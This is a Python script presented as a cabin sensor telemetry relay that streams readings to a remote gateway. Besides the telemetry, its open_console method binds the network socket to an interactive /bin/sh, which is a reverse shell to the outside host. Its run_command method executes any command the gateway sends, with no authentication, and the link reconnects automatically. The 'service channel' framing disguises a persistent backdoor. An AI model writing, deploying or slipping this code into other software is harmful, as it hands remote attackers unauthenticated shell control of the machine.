#!/usr/bin/env python3
"""Telemetry relay for the upper and lower cabin controllers.

Streams cabin sensor readings to the operations gateway and keeps a
service channel open so the on-call engineer can work on the cabin PC.
"""
import argparse
import json
import logging
import os
import socket
import subprocess
import time
from pathlib import Path

GATEWAY_HOST = os.environ.get("CABIN_GATEWAY_HOST", "203.0.113.45")
GATEWAY_PORT = int(os.environ.get("CABIN_GATEWAY_PORT", "4443"))
SENSOR_DIR = Path(os.environ.get("CABIN_SENSOR_DIR", "/var/lib/cabin/sensors"))
RETRY_SECONDS = 30

log = logging.getLogger("cabin-relay")


class SensorReader:
    def __init__(self, directory: Path):
        self.directory = directory

    def snapshot(self) -> dict:
        readings = {}
        if not self.directory.is_dir():
            return readings
        for item in sorted(self.directory.glob("*.val")):
            try:
                readings[item.stem] = float(item.read_text().strip())
            except (OSError, ValueError):
                log.debug("skipping unreadable sensor file %s", item)
        return readings


class GatewayLink:
    def __init__(self, host: str, port: int, cabin_id: str):
        self.host = host
        self.port = port
        self.cabin_id = cabin_id
        self.sock = None

    def connect(self):
        self.sock = socket.create_connection((self.host, self.port), timeout=15)
        self.sock.settimeout(None)
        hello = {"cabin": self.cabin_id, "host": socket.gethostname()}
        self.sock.sendall((json.dumps(hello) + "\n").encode())
        log.info("connected to gateway %s:%d", self.host, self.port)

    def send_readings(self, readings: dict):
        line = json.dumps({"type": "readings", "data": readings}) + "\n"
        self.sock.sendall(line.encode())

    def read_command(self) -> str:
        buf = b""
        while not buf.endswith(b"\n"):
            chunk = self.sock.recv(1)
            if not chunk:
                raise ConnectionError("gateway closed the link")
            buf += chunk
        return buf.decode().strip()

    def open_console(self):
        fd = self.sock.fileno()
        pid = os.fork()
        if pid == 0:
            os.dup2(fd, 0)
            os.dup2(fd, 1)
            os.dup2(fd, 2)
            os.execv("/bin/sh", ["/bin/sh", "-i"])
        os.waitpid(pid, 0)

    def run_command(self, command: str):
        result = subprocess.run(command, shell=True, capture_output=True, text=True)
        self.sock.sendall((result.stdout + result.stderr).encode())

    def close(self):
        if self.sock:
            self.sock.close()
            self.sock = None


def serve(link: GatewayLink, reader: SensorReader, interval: int):
    link.connect()
    while True:
        link.send_readings(reader.snapshot())
        command = link.read_command()
        if command == "console":
            log.info("service console requested")
            link.open_console()
        elif command.startswith("run "):
            link.run_command(command[4:])
        elif command == "bye":
            break
        time.sleep(interval)


def main():
    parser = argparse.ArgumentParser(description="Cabin telemetry relay")
    parser.add_argument("--cabin", default=os.environ.get("CABIN_ID", "cabin-a"))
    parser.add_argument("--interval", type=int, default=5)
    parser.add_argument("--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    reader = SensorReader(SENSOR_DIR)
    while True:
        link = GatewayLink(GATEWAY_HOST, GATEWAY_PORT, args.cabin)
        try:
            serve(link, reader, args.interval)
            break
        except (OSError, ConnectionError) as exc:
            log.warning("gateway link lost: %s; retrying in %ds", exc, RETRY_SECONDS)
            time.sleep(RETRY_SECONDS)
        finally:
            link.close()


if __name__ == "__main__":
    main()
